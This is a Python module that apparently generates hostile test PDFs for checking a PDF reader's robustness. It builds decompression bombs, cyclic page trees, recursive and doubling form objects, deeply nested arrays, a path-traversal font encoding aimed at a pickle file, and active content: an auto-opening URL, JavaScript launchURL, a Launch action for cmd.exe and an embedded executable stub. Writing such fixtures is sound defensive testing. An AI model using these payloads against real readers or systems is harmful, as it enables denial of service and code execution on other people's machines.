"""PDFs that attack their reader, made byte by byte: no tool writes such files.

Each maker gives a file of which one page says ``SENTENCE``, unless its name says otherwise.
"""

import random
import zlib
from collections.abc import Mapping
from io import BytesIO
from pathlib import Path

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

DOCUMENTS = Path(__file__).parents[2] / "documents"
SENTENCE = "Partners will open a second refuge in Port Ellery by March 2027."
PAGE_SIZE = b"[0 0 595 842]"
SHOWN = f"BT /F1 12 Tf 72 700 Td ({SENTENCE}) Tj ET".encode()
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def stream(data: bytes, about: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (about, len(data), data)


def deflated(data: bytes) -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter/FlateDecode")


def written(objects: Mapping[int, bytes]) -> bytes:
    """The file of these objects, with a table of where each begins; object 1 is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    starts = {}
    for number, body in objects.items():
        starts[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    last = max(objects)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
    for number in range(1, last + 1):
        out += b"%010d 00000 n \n" % starts[number]
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (last + 1, table)
    return bytes(out)


def one_page(
    content: bytes = SHOWN,
    *,
    catalogue: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    font: bytes = FONT,
    size: bytes = PAGE_SIZE,
    more: Mapping[int, bytes] | None = None,
    packed: bytes | None = None,
) -> bytes:
    """A file of one page; ``packed`` is a whole stream object in the place of its content."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>%s>>%s>>" % (size, resources, page),
        4: packed if packed is not None else stream(content),
        5: font,
    }
    return written(objects | dict(more or {}))


def plain_plan() -> bytes:
    return (DOCUMENTS / "ruled.pdf").read_bytes()


def flipped(seed: int = 5) -> bytes:
    data, draw = bytearray((DOCUMENTS / "furniture.pdf").read_bytes()), random.Random(seed)
    for _ in range(200):
        data[draw.randrange(len(data))] ^= 1 << draw.randrange(8)
    return bytes(data)


def cut(share: float) -> bytes:
    data = (DOCUMENTS / "furniture.pdf").read_bytes()
    return data[: int(len(data) * share)]


def flate_bomb() -> bytes:
    return one_page(packed=deflated(b"0 0 m " * 43_000_000))


def nested_bomb() -> bytes:
    packer = zlib.compressobj(9)
    inner = b"".join(packer.compress(b"\0" * 10_000_000) for _ in range(100)) + packer.flush()
    twice = stream(zlib.compress(inner, 9), b"/Filter[/FlateDecode/FlateDecode]")
    return one_page(packed=twice)


def many_rectangles() -> bytes:
    content = b"".join(b"%d %d 3 3 re S\n" % (n % 590, n % 830) for n in range(300_000))
    return one_page(packed=deflated(SHOWN + b"\n" + content))


def many_crossings() -> bytes:
    across = b"".join(b"0 %.2f m 595 %.2f l S\n" % (n * 0.5, n * 0.5) for n in range(1_500))
    down = b"".join(b"%.2f 0 m %.2f 842 l S\n" % (n * 0.38, n * 0.38) for n in range(1_500))
    return one_page(SHOWN + b"\n" + across + down)


def many_letters() -> bytes:
    text = b"BT /F1 1 Tf 1 0 0 1 20 20 Tm " + b"(abcdefghij) Tj " * 100_000 + b"ET"
    return one_page(packed=deflated(text))


def cyclic_page_tree() -> bytes:
    return written(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R"
            b"/Resources<</Font<</F1 5 0 R>>>>>>" % PAGE_SIZE,
            4: stream(SHOWN),
            5: FONT,
        }
    )


def form_that_calls_itself() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>"
    return one_page(
        SHOWN + b" /X Do /X Do",
        resources=b"/XObject<</X 6 0 R>>",
        more={6: stream(b"/X Do /X Do", form)},
    )


def doubling_forms(levels: int = 24) -> bytes:
    more = {}
    for level in range(levels):
        form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]"
        deeper = level < levels - 1
        if deeper:
            form += b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + level)
        more[6 + level] = stream(b"/X Do /X Do" if deeper else b"0 0 9 9 re f", form)
    return one_page(SHOWN + b" /X Do", resources=b"/XObject<</X 6 0 R>>", more=more)


def one_page_many_times(count: int = 200_000) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox%s>>" % PAGE_SIZE
    kids = b"3 0 R " * count
    return written(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
            3: page,
        }
    )


def deep_array(depth: int = 200_000) -> bytes:
    return one_page(catalogue=b"/Deep " + b"[" * depth + b"]" * depth)


def map_that_names_a_path(canary: Path) -> bytes:
    """Letters by a map whose name climbs out of the folder of maps, to a pickle."""
    climbing = f"/../../../../../..{canary}".replace("/", "#2F").encode()
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/Plan/Encoding/%s/DescendantFonts[6 0 R]>>" % climbing
    )
    below = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/Plan"
        b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>"
    )
    return one_page(b"BT /F1 12 Tf 72 700 Td <004100420043> Tj ET", font=font, more={6: below})


def active(address: str) -> bytes:
    """Opens an address, runs a script and a program, and carries a file."""
    uri = b"<</S/URI/URI(%s)>>" % address.encode()
    script = b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % address.encode()
    return one_page(
        catalogue=b"/OpenAction 6 0 R/Names<</JavaScript<</Names[(a) 7 0 R]>>"
        b"/EmbeddedFiles<</Names[(plan.exe) 8 0 R]>>>>",
        page=b"/AA<</O<</S/Launch/F(cmd.exe)>>>>",
        more={
            6: uri,
            7: script,
            8: b"<</Type/Filespec/F(plan.exe)/EF<</F 9 0 R>>>>",
            9: stream(b"MZ", b"/Type/EmbeddedFile"),
        },
    )


def nameless_letters() -> bytes:
    """A font whose codes name no letters, as a subset without a table of them does."""
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/ABCDEF+Plan/Encoding/Identity-H"
        b"/DescendantFonts[6 0 R]>>"
    )
    below = (
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/ABCDEF+Plan/DW 600"
        b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>"
    )
    codes = b"".join(b"%04x" % (0xE040 + n % 50) for n in range(60))
    shown = b"BT /F1 12 Tf 72 700 Td <%s> Tj ET" % codes
    return one_page(b" ".join([shown] * 3), font=font, more={6: below})


def protected(to_open: str) -> bytes:
    """A page with passwords; with ``to_open`` empty, anybody may open it."""
    held = BytesIO()
    passwords = StandardEncryption(to_open, ownerPassword="owner", canPrint=0)
    canvas = Canvas(held, encrypt=passwords)
    canvas.drawString(72, 700, SENTENCE)
    canvas.save()
    return held.getvalue()


def picture_only() -> bytes:
    """A scanned page: one picture and no text."""
    picture = stream(
        b"\xff" * 6_400,
        b"/Type/XObject/Subtype/Image/Width 80/Height 80/ColorSpace/DeviceGray/BitsPerComponent 8",
    )
    return one_page(
        b"595 0 0 842 0 0 cm /I Do", resources=b"/XObject<</I 6 0 R>>", more={6: picture}
    )


def numbers_that_are_none() -> bytes:
    """Lines and letters at places that are infinite or no numbers."""
    return one_page(
        SHOWN + b" 1e400 0 m NaN 5 l S 0 1e400 m 9 9 l S"
        b" BT /F1 12 Tf 1e39 1e39 Td (beyond the page) Tj ET"
    )
